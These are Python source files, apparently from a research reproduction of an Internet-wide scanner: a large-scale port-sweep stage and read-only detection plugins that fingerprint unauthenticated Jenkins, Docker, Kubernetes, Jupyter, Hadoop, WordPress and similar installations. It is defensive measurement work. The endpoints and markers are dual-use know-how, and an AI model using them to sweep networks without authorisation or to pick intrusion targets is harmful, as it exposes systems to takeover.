    #: cache for :meth:`_bound_counters` (keyed by the telemetry object)
    _counters: tuple | None = field(default=None, init=False, repr=False)

    def _plan_blocks(
        self, candidates: Iterable[IPv4Address] | IntervalSet
    ) -> tuple[
        list[int], Callable[[int], list[int]], Callable[[int], int], object
    ]:
        """The sweep's block plan: ``(bases, lookup, sizer, order_key)``.

        ``bases`` lists every /24 base in sweep block order (shuffled when
        ``randomise_order`` is on).  ``lookup(base)`` returns the block's
        candidate addresses as sorted raw ints (at most 256, materialised
        on demand so an interval frame never expands wholesale);
        ``sizer(base)`` returns how many there are *without* materialising
        them, so a dead run costs a dict hit instead of a list build.
        ``order_key`` says how each block is ordered internally:

        * ``None`` — ascending.  Used when ``randomise_order`` is off,
          and *always* for interval frames: every address of a /24 lands
          in the same network whatever its position, so within-block
          shuffling buys no politeness — block-level shuffling alone
          spreads consecutive probes across unrelated networks.  The
          ascending order is what lets stage I account the dead gap
          between two live hosts in one step instead of one per address.
        * ``_SWEEP_RNG`` — legacy list-frame order: the within-block
          shuffle draws from the sweep RNG, so every block must consume
          its draws even when its addresses are skipped.
        """
        lookup: Callable[[int], list[int]]
        sizer: Callable[[int], int]
        if isinstance(candidates, IntervalSet):
            frame = candidates
            if self.exclude_reserved:
                frame = frame.difference(reserved_intervals())
            counts = frame.block_counts()
            bases = list(counts)
            lookup = frame.block_values
            sizer = counts.__getitem__
            order_key: object = None
            runs: list[tuple[int, int]] | None = list(frame.runs)
        else:
            blocks: dict[int, list[int]] = {}
            for ip in candidates:
                if self.exclude_reserved and is_reserved(ip):
                    continue
                blocks.setdefault(ip.value & BLOCK_MASK, []).append(ip.value)
            bases = sorted(blocks)
            lookup = lambda base: sorted(blocks[base])  # noqa: E731
            sizer = lambda base: len(blocks[base])  # noqa: E731
            order_key = _SWEEP_RNG if self.randomise_order else None
            runs = None
        if self.randomise_order:
            bases = shuffled(self.rng, bases)
        return bases, lookup, sizer, order_key, runs

    def _block_order(
        self, base: int, values: list[int], order_key: object
    ) -> list[int]:
        """The within-block probe order as raw ints (see :meth:`_ordered_blocks`)."""
        if order_key is _SWEEP_RNG:
            return shuffled(self.rng, list(values))
        return list(values)

    def iter_target_order(
        self, candidates: Iterable[IPv4Address] | IntervalSet
    ) -> Iterator[IPv4Address]:
        """Filter reserved ranges and order targets for the sweep, lazily.

        With randomisation on, /24 blocks are shuffled so consecutive
        probes land in unrelated networks (the paper's politeness
        measure); list frames additionally keep their legacy within-block
        shuffle, while interval frames probe each block in ascending
        order (see :meth:`_ordered_blocks`).  Only one block is
        materialised beyond the block index itself, so resuming deep into
        a multi-million-address sweep does not copy the whole order.
        """
        bases, lookup, _sizer, order_key, _runs = self._plan_blocks(candidates)
        for base in bases:
            for value in self._block_order(base, lookup(base), order_key):
                yield IPv4Address(value)

    def target_order(self, candidates: Iterable[IPv4Address] | IntervalSet) -> list[IPv4Address]:
        """The full sweep order as a list (see :meth:`iter_target_order`)."""
        return list(self.iter_target_order(candidates))

    def scan(self, candidates: Iterable[IPv4Address] | IntervalSet) -> PortScanResult:
        """Probe every candidate on every configured port."""
        result = PortScanResult()
        for batch in self.scan_in_batches(candidates, batch_size=2**62):
            result.merge(batch)
        return result

    def scan_in_batches(
        self,
        candidates: Iterable[IPv4Address] | IntervalSet,
        batch_size: int,
        skip: int = 0,
    ) -> Iterator[PortScanResult]:
        """Yield partial results every ``batch_size`` addresses.

        The pipeline consumes each batch with stages II/III before this
        generator resumes, mirroring the paper's interleaved execution.
        ``skip`` resumes a checkpointed sweep: the deterministic target
        order is recomputed and the first ``skip`` addresses — already
        scanned before the interruption — are not probed again.

        When the transport offers liveness hints (see
        ``Transport.live_values_in``) and neither retry nor supervision is
        active, runs of guaranteed-dead addresses are accounted in bulk —
        same probes, counters, and batch boundaries as probing them one by
        one, without the per-address work.  A /24 with no live candidate
        is never materialised at all, and inside a hinted block the dead
        gap between two live hosts is accounted in one step.
        """
        if batch_size <= 0:
            raise ValueError("batch_size must be positive")
        if skip < 0:
            raise ValueError("skip must be non-negative")
        result = PortScanResult()
        span = None
        supervision = self.supervision
        bulk_ok = supervision is None and self.retry is None
        stopped = False
        bases, lookup, sizer, order_key, runs = self._plan_blocks(candidates)
        # Legacy list-frame blocks shuffle on the sweep RNG, so their
        # draws must be consumed even for skipped or dead blocks;
        # wholesale skipping is sound only for the ascending mode.
        wholesale = order_key is not _SWEEP_RNG
        hints = self._prefetch_hints(runs) if bulk_ok else None
        # Dead gaps accumulate across blocks and flush lazily: nothing
        # advances the clock or touches the result between a dead run and
        # its flush, so deferral is observationally identical while a
        # sparse frame collapses to a few _account_dead calls per batch
        # instead of one per dead /24.
        pending_dead = 0
        for base in bases:
            block_values: list[int] | None = None
            if wholesale:
                # Don't materialise yet: a dead or skipped run needs only
                # its size, and dead runs are the bulk of a sparse frame.
                count = sizer(base)
            else:
                block_values = lookup(base)
                count = len(block_values)
            if wholesale and skip >= count:
                skip -= count
                continue
            live: Sequence[int] | None = None
            if bulk_ok:
                live = (
                    hints.get(base, ()) if hints is not None
                    else self.transport.live_values_in(
                        base, base | (BLOCK_SIZE - 1)
                    )
                )
            # The block reduces to a stream of (dead gap, live value) ops;
            # one consumer below does the accounting, probing, and exact
            # batch-boundary chunking for every mode.
            ops: Iterable[tuple[int, int | None]]
            if live is not None and wholesale and not live:
                # Dead run: fold into the pending gap, never materialised.
                pending_dead += count - skip
                skip = 0
                continue
            if live is not None and wholesale and count == BLOCK_SIZE:
                # Full /24 in ascending order: the members are exactly the
                # range, so the gaps between hinted hosts are arithmetic —
                # no materialisation, no set, no per-address walk.
                ops = _range_ops(base + skip, base | (BLOCK_SIZE - 1), live)
                skip = 0
            else:
                if block_values is None:
                    block_values = lookup(base)
                ordered = self._block_order(base, block_values, order_key)
                if skip >= count:
                    skip -= count
                    continue
                if skip:
                    ordered = ordered[skip:]
                    skip = 0
                if live is not None:
                    ops = _hinted_ops(ordered, set(live).intersection(ordered))
                elif supervision is None:
                    ops = ((0, value) for value in ordered)
                else:
                    for value in ordered:
                        ip = IPv4Address(value)
                        if supervision.should_stop():
                            # Sweep deadline: stop probing, flush what we
                            # have.  The pipeline accounts the un-probed
                            # remainder as deadline-skipped coverage.
                            stopped = True
                            break
                        if supervision.is_quarantined(ip):
                            supervision.note_gate_skip(ip)
                            continue
                        if span is None and self.telemetry is not None:
                            # Lazy: only a batch that probes at least one
                            # address opens a span, so resumed sweeps
                            # trace identically.
                            span = self.telemetry.tracer.start("stage:masscan")
                        self._probe_host(ip, result)
                        if result.addresses_scanned >= batch_size:
                            self._close_span(span, result)
                            span = None
                            yield result
                            result = PortScanResult()
                    if stopped:
                        break
                    continue
            for dead, value in ops:
                pending_dead += dead
                if value is None:
                    continue
                while pending_dead:
                    if span is None and self.telemetry is not None:
                        span = self.telemetry.tracer.start("stage:masscan")
                    take = min(
                        pending_dead, batch_size - result.addresses_scanned
                    )
                    self._account_dead(result, take)
                    pending_dead -= take
                    if result.addresses_scanned >= batch_size:
                        self._close_span(span, result)
                        span = None
                        yield result
                        result = PortScanResult()
                if span is None and self.telemetry is not None:
                    span = self.telemetry.tracer.start("stage:masscan")
                self._probe_host(IPv4Address(value), result)
                if result.addresses_scanned >= batch_size:
                    self._close_span(span, result)
                    span = None
                    yield result
                    result = PortScanResult()
        while pending_dead:
            if span is None and self.telemetry is not None:
                span = self.telemetry.tracer.start("stage:masscan")
            take = min(pending_dead, batch_size - result.addresses_scanned)
            self._account_dead(result, take)
            pending_dead -= take
            if result.addresses_scanned >= batch_size:
                self._close_span(span, result)
                span = None
                yield result
                result = PortScanResult()
        if result.addresses_scanned:
            self._close_span(span, result)
            yield result

    def _close_span(self, span, result: PortScanResult) -> None:
        if span is None:
            return
        span.attrs["addresses"] = result.addresses_scanned
        span.attrs["open_hosts"] = len(result.open_ports)
        self.telemetry.tracer.end(span)

    def probe_port(self, ip: IPv4Address, port: int) -> bool:
        """One logical SYN probe, re-probed under the retry policy if set."""
        if self.retry is not None:
            return self.retry.probe(
                ip, lambda: self.transport.syn_probe(ip, port)
            )
        return self.transport.syn_probe(ip, port)

    def _probe_host(self, ip: IPv4Address, result: PortScanResult) -> None:
        ports = self.ports
        if self.retry is None:
            # Batched fast path: one transport call for all twelve ports.
            open_ports = self.transport.probe_ports(ip, ports)
        else:
            open_ports = [
                port for port in ports if self.probe_port(ip, port)
            ]
        result.probes_sent += len(ports)
        result.addresses_scanned += 1
        result.record(ip, open_ports)
        if self.telemetry is not None:
            probes, addresses, opened = self._bound_counters()
            probes.inc(len(ports))
            addresses.inc()
            if open_ports:
                opened.inc(len(open_ports))

    def _prefetch_hints(
        self, runs: list[tuple[int, int]] | None
    ) -> dict[int, list[int]] | None:
        """One liveness query per frame run instead of one per /24.

        Interval frames know their runs, so the hint sweep walks them
        directly and groups the (few) live values by block — a block
        absent from the map is guaranteed dead.  Returns None for list
        frames and for transports without hints; callers then fall back
        to per-block queries.
        """
        if runs is None:
            return None
        hints: dict[int, list[int]] = {}
        for start, end in runs:
            values = self.transport.live_values_in(start, end)
            if values is None:
                return None
            for value in values:
                hints.setdefault(value & BLOCK_MASK, []).append(value)
        return hints

    def _account_dead(self, result: PortScanResult, count: int) -> None:
        """Account ``count`` guaranteed-dead addresses without probing.

        Mirrors :meth:`_probe_host` for addresses the liveness hint says
        cannot answer: the same probes-sent, addresses-scanned, transport
        stats, and telemetry counters — minus the per-address transport
        round trip that would return nothing.
        """
        probes = count * len(self.ports)
        result.probes_sent += probes
        result.addresses_scanned += count
        self.transport.stats.syn_probes += probes
        if self.telemetry is not None:
            probe_counter, address_counter, _ = self._bound_counters()
            probe_counter.inc(probes)
            address_counter.inc(count)

    def _bound_counters(self):
        """The three stage-I counters, looked up once per telemetry sink.

        Counter objects are stable for a given registry, so binding them
        here removes three name/label lookups from every probed address.
        """
        bound = self._counters
        if bound is None or bound[0] is not self.telemetry:
            metric = self.telemetry.metrics.counter
            bound = self._counters = (
                self.telemetry,
                metric("masscan_probes_total"),
                metric("masscan_addresses_total"),
                metric("masscan_open_ports_total"),
            )
        return bound[1:]


def _range_ops(
    start: int, end: int, live: Sequence[int]
) -> Iterator[tuple[int, int | None]]:
    """(dead gap, live value) ops for a contiguous ascending block.

    When a /24 is fully inside the frame its members *are* the range, so
    the dead stretch before each hinted host is ``value - cursor`` — no
    member list is ever built.  Hint values are ascending (transport
    contract) and the hint is one-sided, so a "live" value may still
    probe dead; it is probed rather than skipped either way.
    """
    cursor = start
    for value in live:
        if value < cursor:
            continue
        if value > end:
            break
        yield value - cursor, value
        cursor = value + 1
    if cursor <= end:
        yield end - cursor + 1, None


def _hinted_ops(
    ordered: Sequence[int], live_set: set[int]
) -> Iterator[tuple[int, int | None]]:
    """(dead gap, live value) ops for a materialised hinted block."""
    pending = 0
    for value in ordered:
        if value in live_set:
            yield pending, value
            pending = 0
        else:
            pending += 1
    if pending:
        yield pending, None


def burst_profile(order: Sequence[IPv4Address], window: int = 256) -> dict[int, int]:
    """Max probes landing in any single /24 within a sliding window.

    Politeness metric for the scan-order ablation: for each /24, the peak
    number of its addresses hit within ``window`` consecutive probes.
    Sequential order maxes this out; randomised order keeps it near one.
    """
    peaks: dict[int, int] = {}
    window_counts: dict[int, int] = {}
    queue: deque[int] = deque(maxlen=window)
    for ip in order:
        block = ip.value & 0xFFFFFF00
        if len(queue) == window:
            # queue[0] is about to be evicted by the bounded append.
            window_counts[queue[0]] -= 1
        queue.append(block)
        window_counts[block] = window_counts.get(block, 0) + 1
        peaks[block] = max(peaks.get(block, 0), window_counts[block])
    return peaks
