"""The Tsunami scanning engine.

Selects the appropriate detection plugins for a target "based on the port
and application information from Stage I and Stage II" (the paper's
words): stage II hands over a candidate application list, the engine runs
exactly those plugins, and collects verified findings.  Plugins that blow
up are isolated — one broken plugin must never abort a scan batch.
"""

from __future__ import annotations

import logging
from dataclasses import dataclass, field

from repro.core.retry import RetryExecutor
from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext
from repro.core.tsunami.plugins import ALL_PLUGINS
from repro.net.http import Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.obs.telemetry import Telemetry

logger = logging.getLogger(__name__)


@dataclass
class EngineStats:
    plugins_run: int = 0
    detections: int = 0
    plugin_errors: int = 0
    runs_per_plugin: dict[str, int] = field(default_factory=dict)


class TsunamiEngine:
    """Runs MAV detection plugins against prefiltered targets."""

    def __init__(
        self,
        transport: Transport,
        plugins: tuple[MavDetectionPlugin, ...] = ALL_PLUGINS,
        retry: "RetryExecutor | None" = None,
        telemetry: Telemetry | None = None,
    ) -> None:
        self.transport = transport
        self._by_slug = {plugin.slug: plugin for plugin in plugins}
        self.retry = retry
        self.telemetry = telemetry
        self.stats = EngineStats()

    @property
    def plugins(self) -> tuple[MavDetectionPlugin, ...]:
        return tuple(self._by_slug.values())

    def plugins_for_candidates(
        self, candidates: tuple[str, ...]
    ) -> list[MavDetectionPlugin]:
        return [
            self._by_slug[slug] for slug in candidates if slug in self._by_slug
        ]

    def scan_target(
        self,
        ip: IPv4Address,
        port: int,
        scheme: Scheme,
        candidates: tuple[str, ...],
    ) -> list[DetectionReport]:
        """Run every candidate's plugin against one (ip, port, scheme)."""
        context = PluginContext(
            self.transport, ip, port, scheme,
            retry=self.retry, telemetry=self.telemetry,
        )
        reports = []
        for plugin in self.plugins_for_candidates(candidates):
            self.stats.plugins_run += 1
            self.stats.runs_per_plugin[plugin.slug] = (
                self.stats.runs_per_plugin.get(plugin.slug, 0) + 1
            )
            span = None
            if self.telemetry is not None:
                span = self.telemetry.tracer.start(
                    f"probe:{plugin.slug}", host=str(ip), port=port
                )
            try:
                report = plugin.detect(context)
            except Exception:
                # A plugin crash is a plugin bug, not a scan failure.
                self.stats.plugin_errors += 1
                logger.exception("plugin %s crashed on %s:%s", plugin.slug, ip, port)
                self._finish_probe(span, plugin.slug, ip, "error")
                continue
            verdict = "detected" if report is not None else "clean"
            self._finish_probe(span, plugin.slug, ip, verdict)
            if report is not None:
                self.stats.detections += 1
                reports.append(report)
        return reports

    def _finish_probe(
        self, span, slug: str, ip: IPv4Address, verdict: str
    ) -> None:
        if self.telemetry is None:
            return
        span.attrs["verdict"] = verdict
        self.telemetry.tracer.end(span)
        self.telemetry.metrics.counter(
            "plugin_verdicts_total", plugin=slug, verdict=verdict
        ).inc()
        self.telemetry.metrics.histogram(
            "plugin_latency_seconds", plugin=slug
        ).observe(span.duration)
        if verdict == "detected":
            self.telemetry.events.info("tsunami", "mav-detected", host=ip, plugin=slug)
        elif verdict == "error":
            self.telemetry.events.warn("tsunami", "plugin-error", host=ip, plugin=slug)
