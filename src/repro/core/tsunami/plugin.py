"""Plugin API of the Tsunami-style scanner.

Each plugin verifies one application's MAV with a handful of
non-state-changing GET requests.  Plugins receive a :class:`PluginContext`
wrapping the transport plus the target coordinates, use its helpers
(``fetch``, ``fetch_json``), and return a :class:`DetectionReport` when —
and only when — every detection step succeeds.
"""

from __future__ import annotations

import json
from abc import ABC, abstractmethod
from dataclasses import dataclass

from repro.core.retry import RetryExecutor
from repro.net.http import HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.util.errors import TransportError


@dataclass(frozen=True)
class DetectionReport:
    """A verified missing-authentication vulnerability."""

    ip: IPv4Address
    port: int
    scheme: Scheme
    slug: str
    title: str
    details: str

    def __str__(self) -> str:
        return f"[{self.slug}] {self.ip}:{self.port} — {self.title}"


@dataclass
class PluginContext:
    """Target coordinates plus transport helpers for one plugin run."""

    transport: Transport
    ip: IPv4Address
    port: int
    scheme: Scheme
    #: when set, transient transport failures are retried with backoff
    retry: RetryExecutor | None = None
    #: when set, every exchange is noted on the flight recorder
    telemetry: object | None = None

    def fetch(self, path: str, follow_redirects: int = 5) -> HttpResponse | None:
        """GET ``path``; ``None`` on any transport failure."""
        def attempt() -> HttpResponse:
            return self.transport.get(
                self.ip, self.port, path, self.scheme, follow_redirects
            )

        try:
            if self.retry is not None:
                response = self.retry.call(self.ip, attempt)
            else:
                response = attempt()
        except TransportError as exc:
            if self.telemetry is not None:
                self.telemetry.flight.note_exchange(
                    path, error=type(exc).__name__
                )
            return None
        if self.telemetry is not None:
            self.telemetry.flight.note_exchange(
                path, status=response.status, body_bytes=len(response.body)
            )
        return response

    def fetch_json(self, path: str) -> object | None:
        """GET ``path`` and parse the body as JSON; ``None`` on failure."""
        response = self.fetch(path)
        if response is None or response.status >= 400:
            return None
        try:
            return json.loads(response.body)
        except json.JSONDecodeError:
            return None


class MavDetectionPlugin(ABC):
    """Base class for the 18 MAV verification plugins."""

    #: application this plugin verifies (catalog slug)
    slug: str = "abstract"
    #: human-readable finding title
    title: str = "Missing authentication"

    @abstractmethod
    def detect(self, context: PluginContext) -> DetectionReport | None:
        """Run the detection steps; report only if all succeed."""

    def report(self, context: PluginContext, details: str) -> DetectionReport:
        return DetectionReport(
            ip=context.ip,
            port=context.port,
            scheme=context.scheme,
            slug=self.slug,
            title=self.title,
            details=details,
        )

    def __repr__(self) -> str:
        return f"<{type(self).__name__} slug={self.slug}>"
