"""Jenkins MAV detection (Table 10).

1. Visit ``/view/all/newJob``.
2. Check that the body contains 'Jenkins' and is valid HTML.
3. Parse the HTML and verify that element ``form#createItem`` exists —
   i.e. an anonymous visitor can create a job, which means anonymous
   build-step (system command) execution.
"""

from __future__ import annotations

from repro.core.tsunami.htmlcheck import has_element, is_valid_html
from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class JenkinsPlugin(MavDetectionPlugin):
    slug = "jenkins"
    title = "Jenkins allows unauthenticated job creation"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        response = context.fetch("/view/all/newJob")
        if response is None or response.status != 200:
            return None
        if "Jenkins" not in response.body or not is_valid_html(response.body):
            return None
        if not has_element(response.body, "form", "createItem"):
            return None
        return self.report(context, "form#createItem reachable without login")
