"""Nomad ACL-less API detection (after Table 10).

The paper's published steps probe ``/v1/jobs`` and look for
``<title>Nomad</title>``.  The two observations live on different
endpoints in practice (the JSON API vs the bundled UI), so this plugin
verifies both faithfully: the job list must be readable without an ACL
token, and the UI must identify the product.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class NomadPlugin(MavDetectionPlugin):
    slug = "nomad"
    title = "Nomad API reachable without ACL token"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        jobs = context.fetch_json("/v1/jobs")
        if not isinstance(jobs, list):
            return None
        ui = context.fetch("/")
        if ui is None or "<title>Nomad</title>" not in ui.body:
            return None
        return self.report(context, f"job list readable ({len(jobs)} jobs)")
