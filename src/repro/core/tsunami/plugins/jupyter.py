"""Jupyter Lab / Notebook detection (Table 10).

1. Visit ``/api/terminals``.
2. Check that the (successful) response names the product — 'JupyterLab'
   or 'Jupyter Notebook'.  With authentication enabled this endpoint
   returns 403, so a readable terminal list means anyone can open a web
   terminal on the server.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class _JupyterPlugin(MavDetectionPlugin):
    product_marker = ""

    def detect(self, context: PluginContext) -> DetectionReport | None:
        response = context.fetch("/api/terminals")
        if response is None or response.status != 200:
            return None
        if self.product_marker not in response.body:
            return None
        # Hardening beyond the published steps: the terminal API answers
        # JSON; an HTML page that merely mentions the product (spoofed
        # landing pages, error wrappers) must not count.
        if context.fetch_json("/api/terminals") is None:
            return None
        return self.report(context, "terminal API readable without a token")


class JupyterLabPlugin(_JupyterPlugin):
    slug = "jupyterlab"
    title = "JupyterLab terminals exposed without authentication"
    product_marker = "JupyterLab"


class JupyterNotebookPlugin(_JupyterPlugin):
    slug = "jupyter-notebook"
    title = "Jupyter Notebook terminals exposed without authentication"
    product_marker = "Jupyter Notebook"
