"""Drupal installation-hijack detection (Table 10).

1. Visit ``/core/install.php?langcode=en&profile=standard&continue=1``.
2. Remove all whitespace from the response (markup spacing differs across
   Drupal versions).
3. Check that the body contains ``<liclass="is-active">Setupdatabase``.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext

_MARKER = '<liclass="is-active">Setupdatabase'


class DrupalPlugin(MavDetectionPlugin):
    slug = "drupal"
    title = "Drupal installer is publicly reachable"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        response = context.fetch(
            "/core/install.php?langcode=en&profile=standard&continue=1"
        )
        if response is None or response.status != 200:
            return None
        squeezed = "".join(response.body.split())
        if _MARKER not in squeezed:
            return None
        return self.report(context, "database-setup step served")
