"""Adminer empty-password detection (Table 10).

1. Visit ``/adminer.php?username=root`` and check for 'through PHP
   extension' and 'Logged as' — a GET with only a username lands in a
   session when the root password is empty (pre-4.6.3 behaviour).
2. Otherwise repeat on ``/adminer/adminer.php?username=root``.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext

_MARKERS = ("through PHP extension", "Logged as")


class AdminerPlugin(MavDetectionPlugin):
    slug = "adminer"
    title = "Adminer logs in with an empty password"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        for path in ("/adminer.php?username=root", "/adminer/adminer.php?username=root"):
            response = context.fetch(path)
            if response is None or response.status != 200:
                continue
            if all(marker in response.body for marker in _MARKERS):
                return self.report(context, f"anonymous root session at {path}")
        return None
