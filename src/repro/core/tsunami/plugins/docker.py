"""Docker Engine API detection (Table 10).

1. Visit ``/`` and check for the daemon's characteristic
   ``{"message":"page not found"}`` body.
2. Visit ``/version``; lower-cased, the body must contain
   'minapiversion' and 'kernelversion' — an unauthenticated Engine API,
   i.e. root-equivalent container execution.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class DockerPlugin(MavDetectionPlugin):
    slug = "docker"
    title = "Docker Engine API exposed without authentication"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        root = context.fetch("/")
        if root is None or '{"message":"page not found"}' not in root.body:
            return None
        version = context.fetch("/version")
        if version is None or version.status != 200:
            return None
        lowered = version.body.lower()
        if "minapiversion" not in lowered or "kernelversion" not in lowered:
            return None
        return self.report(context, "Engine /version answered unauthenticated")
