"""Hadoop YARN ResourceManager detection (Table 10).

1. Visit ``/cluster/cluster`` and lower-case the response.
2. Check for 'hadoop', 'resourcemanager' and 'logged in as: dr.who'
   (the anonymous default user).
3. Visit ``/ws/v1/cluster/apps/new-application`` and check it is valid
   JSON.
4. Check the JSON contains the ``application-id`` object — i.e. anyone
   can allocate (and then submit) YARN applications.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class HadoopPlugin(MavDetectionPlugin):
    slug = "hadoop"
    title = "Hadoop YARN accepts unauthenticated applications"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        cluster = context.fetch("/cluster/cluster")
        if cluster is None or cluster.status != 200:
            return None
        lowered = cluster.body.lower()
        for marker in ("hadoop", "resourcemanager", "logged in as: dr.who"):
            if marker not in lowered:
                return None
        new_app = context.fetch_json("/ws/v1/cluster/apps/new-application")
        if not isinstance(new_app, dict) or "application-id" not in new_app:
            return None
        return self.report(
            context, f"new-application returned {new_app['application-id']}"
        )
