"""GoCD MAV detection (Table 10).

1. Visit ``/go/home``.
2. Accept any of the marker pairs that identify an unauthenticated GoCD
   dashboard across versions.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext

_MARKER_PAIRS = (
    ("Create a pipeline - Go", "pipelines-page"),
    ("Add Pipeline", "admin_pipelines"),
    ("Dashboard - Go", "/go/admin/pipelines/"),
    ("Pipelines - Go", "/go/admin/pipelines"),
)


class GocdPlugin(MavDetectionPlugin):
    slug = "gocd"
    title = "GoCD dashboard exposed without authentication"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        response = context.fetch("/go/home")
        if response is None or response.status != 200:
            return None
        for first, second in _MARKER_PAIRS:
            if first in response.body and second in response.body:
                return self.report(context, f"markers {first!r} + {second!r}")
        return None
