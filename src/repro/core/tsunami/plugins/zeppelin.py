"""Apache Zeppelin detection (Table 10).

1. Visit ``/api/notebook``.
2. Check that the response contains ``{"status":"OK",`` — the notebook
   list is readable, so anonymous users can create notes and run ``%sh``
   paragraphs.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class ZeppelinPlugin(MavDetectionPlugin):
    slug = "zeppelin"
    title = "Zeppelin notebook API open to anonymous users"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        response = context.fetch("/api/notebook")
        if response is None or response.status != 200:
            return None
        if '{"status":"OK",' not in response.body:
            return None
        # Hardening beyond the published steps: verify it parses as the
        # API's JSON envelope, so marker-stuffed HTML cannot spoof it.
        payload = context.fetch_json("/api/notebook")
        if not isinstance(payload, dict) or payload.get("status") != "OK":
            return None
        return self.report(context, "notebook list readable anonymously")
