"""Kubernetes anonymous-API detection (Table 10).

1. Visit ``/`` and check for 'certificates.k8s.io' and 'healthz/ping'
   (the unauthenticated API discovery document).
2. Visit ``/api/v1/pods``; after removing whitespace the body must
   contain ``"phase":"Running"``.
3. Parse the response as JSON and check that ``items`` exists and is
   non-empty — anonymous users can read (and by extension create) pods.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class KubernetesPlugin(MavDetectionPlugin):
    slug = "kubernetes"
    title = "Kubernetes API allows anonymous access"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        root = context.fetch("/")
        if root is None or root.status != 200:
            return None
        if "certificates.k8s.io" not in root.body or "healthz/ping" not in root.body:
            return None
        pods_response = context.fetch("/api/v1/pods")
        if pods_response is None or pods_response.status != 200:
            return None
        squeezed = "".join(pods_response.body.split())
        if '"phase":"Running"' not in squeezed:
            return None
        pods = context.fetch_json("/api/v1/pods")
        if not isinstance(pods, dict):
            return None
        items = pods.get("items")
        if not isinstance(items, list) or not items:
            return None
        return self.report(context, f"anonymous pod list returned {len(items)} pods")
