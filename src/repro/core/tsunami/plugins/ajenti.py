"""Ajenti autologin detection (Table 10).

1. Visit ``/view/``.
2. Check for ``customization.plugins.core.title || 'Ajenti'`` and
   ``ajentiPlatformUnmapped`` — markers of the dashboard shell, which is
   only served pre-authentication when ``--autologin`` is on.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class AjentiPlugin(MavDetectionPlugin):
    slug = "ajenti"
    title = "Ajenti panel auto-logs-in anonymous visitors"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        response = context.fetch("/view/")
        if response is None or response.status != 200:
            return None
        body = response.body
        if "customization.plugins.core.title || 'Ajenti'" not in body:
            return None
        if "ajentiPlatformUnmapped" not in body:
            return None
        return self.report(context, "dashboard served without login")
