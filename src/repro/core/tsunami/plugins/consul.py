"""Consul script-check detection (Table 10).

1. Visit ``/v1/agent/self`` and check the response is valid JSON.
2. Check the ``DebugConfig`` property exists.
3. Check that at least one of the script-check options is enabled —
   only then can registering a health check run attacker commands.

Consul's exposed-but-hardened agents (script checks off) are the reason
its MAV rate in Table 3 is low despite wide exposure.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext

# Key spellings vary across Consul releases; accept any of them.
_SCRIPT_KEYS = (
    "EnableScriptChecks",
    "EnableLocalScriptChecks",
    "EnableRemoteScriptChecks",
    "enableScriptChecks",
    "enableRemoteChecks",
)


class ConsulPlugin(MavDetectionPlugin):
    slug = "consul"
    title = "Consul agent executes unauthenticated script checks"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        agent = context.fetch_json("/v1/agent/self")
        if not isinstance(agent, dict):
            return None
        debug_config = agent.get("DebugConfig") or agent.get("debugConfig")
        if not isinstance(debug_config, dict):
            return None
        enabled = [key for key in _SCRIPT_KEYS if debug_config.get(key) is True]
        if not enabled:
            return None
        return self.report(context, f"script checks enabled via {', '.join(enabled)}")
