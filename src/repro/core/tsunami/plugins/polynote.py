"""Polynote detection (Table 10).

1. Visit ``/``.
2. Check for ``<title>Polynote</title>`` — Polynote has no
   authentication, so a reachable instance is a vulnerable instance.
"""

from __future__ import annotations

from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class PolynotePlugin(MavDetectionPlugin):
    slug = "polynote"
    title = "Polynote exposed (no authentication support)"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        response = context.fetch("/")
        if response is None or response.status != 200:
            return None
        if "<title>Polynote</title>" not in response.body:
            return None
        return self.report(context, "Polynote UI reachable")
