"""WordPress installation-hijack detection (Table 10).

1. Visit ``/wp-admin/install.php?step=1``.
2. Check that the body contains 'WordPress' and is valid HTML.
3. Parse the HTML and verify that ``form#setup`` and
   ``form#setup input#pass1`` exist — the page where the first visitor
   chooses the admin password.
"""

from __future__ import annotations

from repro.core.tsunami.htmlcheck import has_element, has_element_within, is_valid_html
from repro.core.tsunami.plugin import DetectionReport, MavDetectionPlugin, PluginContext


class WordPressPlugin(MavDetectionPlugin):
    slug = "wordpress"
    title = "WordPress installation can be hijacked"

    def detect(self, context: PluginContext) -> DetectionReport | None:
        response = context.fetch("/wp-admin/install.php?step=1")
        if response is None or response.status != 200:
            return None
        if "WordPress" not in response.body or not is_valid_html(response.body):
            return None
        if not has_element(response.body, "form", "setup"):
            return None
        if not has_element_within(response.body, "form", "setup", "input", "pass1"):
            return None
        return self.report(context, "installation wizard serves the admin-password form")
