"""Grav installation-hijack detection (Table 10).

1. Visit ``/`` and check for 'The Admin plugin has been installed' and
   'Create User'.
2. Otherwise visit ``/admin`` and check for 'No user accounts found' and
   'create one'.
"""

